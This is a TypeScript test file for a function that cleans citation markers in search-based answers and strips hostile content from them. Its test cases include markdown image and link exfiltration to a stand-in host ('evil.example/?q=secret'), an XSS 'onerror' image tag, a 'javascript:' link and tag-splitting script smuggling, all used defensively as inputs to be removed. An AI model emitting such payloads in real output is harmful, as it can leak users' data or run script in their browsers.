import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../../platform/search/search.ts';
import { propertyRuns } from '../../../test/support/property-runs.ts';
import { cleanAnswer } from './citations.ts';

const SOURCES: readonly Finding[] = [1, 2, 3].map((position) => ({
  title: `Page ${position}`,
  url: `https://example.org/${position}`,
  snippet: 'See https://inside.example/path for more.',
  date: null,
  position,
  passage: null,
}));

const MARKERS: readonly [string, string, string][] = [
  ['keeps what resolves', 'Open [1]. Closed [3][2].', 'Open [1]. Closed [3][2].'],
  ['removes what does not', 'Open [4]. Closed [0] today [17][2].', 'Open. Closed today [2].'],
  ['splits lists and ranges', 'So [1, 3] and [1-2] and [2; 9].', 'So [1][3] and [1][2] and [2].'],
  ['names a source once', 'So [2, 2].', 'So [2].'],
  ['reads other ways of writing', 'So 【3】, [^1] and [ 2 ].', 'So [3], [1] and [2].'],
  ['bounds ranges', 'So [1-9999].', 'So [1][2][3].'],
  ['drops what is no number', 'So [-1] [1e3] [2024].', 'So [1e3].'],
  ['leaves other brackets', 'He said [sic] x[i] [ ] [].', 'He said [sic] x[i] [ ] [].'],
  ['removes what removing brings together', 'So [[9]99] [[9]2] [https://x.example/ 8].', 'So [2].'],
  ['reads a linked marker', 'So [1](https://evil.example) [[2]](http://x).', 'So [1] [2].'],
];

describe('markers', () => {
  it.each(MARKERS)('%s', (_, written, answer) => {
    expect(cleanAnswer(written, SOURCES)).toBe(answer);
  });
});

describe('data that a page could exfiltrate', () => {
  it.each([
    ['Hi ![x](https://evil.example/?q=secret) there.', 'Hi  there.'],
    ['Click [here](https://evil.example/?q=secret).', 'Click here.'],
    ['Go to https://evil.example/?q=secret now [1].', 'Go to  now [1].'],
    ['See https://example.org/2.', 'See https://example.org/2.'],
    ['See (https://inside.example/path).', 'See (https://inside.example/path).'],
    ['<img src=//evil.example onerror=alert(1)>Hi<script>x</script>', 'Hix'],
    ['<a href="javascript:x">Hi</a> 3 < 4 > 2', 'Hi 3 < 4 > 2'],
    ['<<b>script>Hi<</b>/script>', 'Hi'],
    ['<'.repeat(20) + 'b>'.repeat(20), 'b'.repeat(12)],
    ['Hi\u0000\u202e\u001b[31m there\r\nyou', 'Hi[31m there\nyou'],
  ])('%j becomes %j', (written, answer) => {
    expect(cleanAnswer(written, SOURCES)).toBe(answer);
  });
});

it('for any text, every number in brackets is a source, and cleaning is idempotent', () => {
  const piece = fc.oneof(
    fc.string(),
    fc.constantFrom(
      '[',
      ']',
      '(',
      ')',
      '1',
      '4',
      '99',
      ',',
      '-',
      '^',
      '【',
      '】',
      ' ',
      '!',
      '<',
      '>',
    ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const answer = cleanAnswer(pieces.join(''), SOURCES);
      for (const [, list] of answer.matchAll(/\[([\d\s,;^–-]*\d[\d\s,;^–-]*)\]/g)) {
        expect(['1', '2', '3']).toContain(list);
      }
      expect(cleanAnswer(answer, SOURCES)).toBe(answer);
    }),
    propertyRuns(2_000),
  );
});

it('handles hostile lengths', () => {
  for (const text of ['[', '[1', '![', '](', '<a', ' ', '[1](', 'https://', ')', '[1,'].values()) {
    expect(cleanAnswer(text.repeat(100_000), SOURCES).length).toBeLessThanOrEqual(20_000);
  }
});
